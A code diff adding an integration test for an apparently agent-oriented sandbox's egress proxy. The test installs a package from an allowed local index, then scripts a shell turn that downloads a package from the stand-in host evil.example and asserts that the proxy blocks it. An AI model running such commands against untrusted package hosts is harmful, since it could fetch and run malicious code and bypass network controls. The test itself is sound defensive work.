@@ -12,7 +12,8 @@ from temporalio.client import Client
 from tether import client as tether
 
 from tests.egress.git_server import README, git_server, make_repository
-from tests.egress.servers import http_server
+from tests.egress.package_index import PROBE, pip_zip, write_index
+from tests.egress.servers import directory_server, http_server
 from tests.helpers import free_port, wait_for
 from tests.sandbox.attacks import RUNTIMES, require
 from tests.scripts import scripted_run, turn
@@ -66,6 +67,35 @@ async def test_a_run_clones_a_repository_from_its_allowed_server_and_a_clone_fro
     assert "returned error: 403" in second.tool_results[0].stderr
     assert second.tool_results[0].egress_denied == [f"127.0.0.2:{other}"]
     assert second.note == f"shell: egress denied 127.0.0.2:{other}"
+
+
+@pytest.mark.parametrize("runtime", RUNTIMES)
+async def test_a_run_installs_a_package_from_its_allowed_index_and_another_index_is_denied(
+    temporal_client: Client, worker: str, tmp_path: Path, runtime: str
+) -> None:
+    index = tmp_path / "index"
+    write_index(index)
+    (tmp_path / "pip.zip").write_bytes(pip_zip())  # the image has python3, not pip: a run brings its own
+    pip = "python3 pip.zip {} --disable-pip-version-check --no-cache-dir --retries 0"
+    with directory_server(index, host="127.0.0.2") as port:
+        handle = await tether.start_run(temporal_client, scripted_run(
+            "install",
+            turn(shell=pip.format("install") + f" --index-url http://127.0.0.2:{port}/simple/ --target lib"
+                 f" {PROBE} && PYTHONPATH=lib python3 -c 'import {PROBE}; print({PROBE}.HELLO)'"),
+            turn(shell=pip.format("download") + " --trusted-host evil.example"
+                 f" --index-url http://evil.example/simple/ -d dl {PROBE}"),
+            turn("done"),
+            sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}, "runtime": require(runtime)}),
+            task_queue=worker, files=[tmp_path / "pip.zip"])
+        result = await handle.result()
+    assert result.status == "completed", result
+    first, second, _ = await tether.get_transcript(temporal_client, handle.id)
+    assert first.tool_results[0].stdout.splitlines()[-1] == "installed through the egress proxy", (
+        first.tool_results[0].stderr)
+    assert first.note is None
+    assert second.tool_results[0].exit_code != 0
+    assert second.tool_results[0].egress_denied == ["evil.example:80"]
+    assert second.note == "shell: egress denied evil.example:80"
 
 
 async def test_a_worker_counts_its_egress_decisions_and_bytes_for_prometheus(
